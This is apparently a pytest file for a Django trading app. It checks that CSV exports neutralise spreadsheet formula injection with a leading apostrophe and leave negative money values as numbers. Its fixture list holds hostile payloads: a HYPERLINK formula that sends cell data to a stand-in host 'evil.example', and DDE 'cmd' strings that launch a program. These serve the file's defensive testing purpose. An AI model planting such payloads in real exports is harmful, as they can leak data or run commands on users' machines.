"""CSV/Excel formula injection (issue 11, finding 10): a text cell that a spreadsheet would read
as a formula (= + - @, a tab or a carriage return first) leaves every export neutralised with a
leading apostrophe; numbers, negative money included, stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone

from accounts.models import TradingAccount
from accounts.tests.factories import TradingAccountFactory
from trading.exports import safe_cell
from trading.models import BrokerBook, Order
from trading.tests.factories import OrderFactory, PositionFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("cell", "out"),
    [
        *[(h, "'" + h) for h in HOSTILE],
        ("-1561.25", "-1561.25"),  # negative money stays a number
        ("+5", "+5"),
        ("-0.50", "-0.50"),
        ("1e5", "1e5"),
        ("-", "'-"),
        ("SBIN", "SBIN"),
        ("M&M", "M&M"),
        ("BAJAJ-AUTO", "BAJAJ-AUTO"),  # a dash inside is harmless
        ("", ""),
        (-5, -5),
        (Decimal("-1.25"), Decimal("-1.25")),
        (None, None),
    ],
)
def test_safe_cell(cell, out):
    assert safe_cell(cell) == out


def _table(body: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body.decode())))


@pytest.mark.django_db
def test_every_export_neutralises_hostile_text_and_keeps_negative_numbers(client, alice):
    """The account name is the user's own text; a broker's tradebook (strategy tag, order id) and
    an order's reject reason are the outside world's."""
    evil = HOSTILE[0]
    acct = TradingAccountFactory.create(owner=alice, name=evil)
    TradingAccount.objects.filter(pk=acct.pk).update(
        funds={"available_cash": "-10", "collateral": "0", "utilised": "0", "m2m_realized": "-1561.25"}
    )
    PositionFactory(account=acct, symbol="SBIN", quantity=-5, realized=Decimal("-1561.25"))
    OrderFactory(account=acct, status=Order.Status.REJECTED, last_error="=cmd|' /C calc'!A0", note="@note")
    BrokerBook.objects.create(
        account=acct,
        kind="trades",
        ok=True,
        fetched_at=timezone.now(),
        rows=[
            {
                "symbol": "SBIN",
                "action": "SELL",
                "quantity": 1,
                "price": "-1",
                "value": "-1",
                "orderid": "+1-2",
                "strategy": "=2+5",
                "time": "10:15:00",
            }
        ],
    )
    BrokerBook.objects.create(
        account=acct,
        kind="holdings",
        ok=True,
        fetched_at=timezone.now(),
        rows=[{"symbol": "@SBIN", "exchange": "NSE", "quantity": 1, "average_price": "1", "ltp": "1", "pnl": "-3"}],
    )
    client.force_login(alice)
    seen = {}
    for tab in ("positions", "orders", "trades", "holdings", "funds"):
        rows = _table(client.get(f"/trading/books/?tab={tab}&export={tab}").content)
        assert rows, tab
        seen[tab] = rows[0]
        for r in rows:
            for column, cell in r.items():
                assert not cell.startswith(("=", "@", "\t", "\r")), (tab, column, cell)
                if cell.startswith(("+", "-")):
                    float(cell)  # only numbers may start with a sign
        assert rows[0]["account"] == "'" + evil
    assert seen["positions"]["quantity"] == "-5" and seen["positions"]["realized"] == "-1561.25"
    assert seen["orders"]["reason"] == "'=cmd|' /C calc'!A0" and seen["orders"]["note"] == "'@note"
    assert seen["trades"]["strategy"] == "'=2+5" and seen["trades"]["orderid"] == "'+1-2"
    assert seen["trades"]["price"] == "-1.00"
    assert seen["holdings"]["symbol"] == "'@SBIN" and seen["holdings"]["pnl"] == "-3.00"
    assert seen["funds"]["available_cash"] == "-10.00"
